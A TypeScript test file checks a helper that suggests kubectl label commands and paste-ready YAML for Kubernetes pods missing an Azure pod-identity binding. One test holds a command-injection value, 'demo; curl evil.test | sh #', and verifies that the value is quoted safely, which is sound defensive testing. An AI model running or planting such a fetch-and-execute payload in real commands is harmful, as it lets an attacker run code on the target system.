import { expect, it } from 'vitest';
import { parseAllDocuments } from 'yaml';
import { unboundFinding } from './unbound.ts';

const pod = 'shop/web-0';
const label = (value: string) =>
  `kubectl label pod web-0 --namespace shop --overwrite aadpodidbinding=${value}`;

it('a label that is nearly a selector of the namespace is corrected', () => {
  const { remedy } = unboundFinding(pod, { why: 'no-binding', label: 'dmeo' }, { selectors: ['demo', 'x'] });
  expect(remedy).toEqual({
    text: "'demo' is probably meant: change the label, in the template of the pod too",
    command: label('demo'),
  });
  expect(unboundFinding(pod, { why: 'no-binding', label: 'y' }, { selectors: ['x'] }).remedy?.command).toBe(
    'kubectl get azureidentitybindings --all-namespaces',
  );
});

it('a missing label gets the only selector of the namespace', () => {
  const commandFor = (...selectors: string[]) =>
    unboundFinding(pod, { why: 'no-label' }, { selectors }).remedy?.command;
  expect(commandFor('demo', 'demo')).toBe(label('demo'));
  expect(commandFor('demo', 'x')).toBe(label('SELECTOR'));
  expect(commandFor()).toBe(label('SELECTOR'));
});

it('attack: a selector that an editor wrote is one word of the command, and nothing that a shell interprets', () => {
  const selector = 'demo; curl evil.test | sh #';
  for (const unbound of [{ why: 'no-label' }, { why: 'no-binding', label: `${selector}#` }] as const)
    expect(unboundFinding(pod, unbound, { selectors: [selector] }).remedy?.command).toBe(
      `kubectl label pod web-0 --namespace shop --overwrite 'aadpodidbinding=${selector}'`,
    );
});

it('what is in another namespace can be pasted into that of the pod', () => {
  const unbound = { why: 'other-namespace', binding: 'pay/by', identity: 'pay/of' } as const;
  const metadata = { name: 'n', namespace: 'shop' };
  const copies = ['A', 'B'].map((kind) => ({ apiVersion: 'v1', kind, metadata, spec: { a: 'b: #\n---' } }));
  const { remedy } = unboundFinding(pod, unbound, { copies });
  expect(remedy?.text).toBe('create both in the namespace of the pod: kubectl apply -f - with what follows');
  expect(parseAllDocuments(remedy?.paste ?? '').map((one) => one.toJS() as unknown)).toEqual(copies);
  expect(unboundFinding(pod, unbound).remedy).toEqual({
    text: 'create AzureIdentity and AzureIdentityBinding in the namespace of the pod',
  });
});
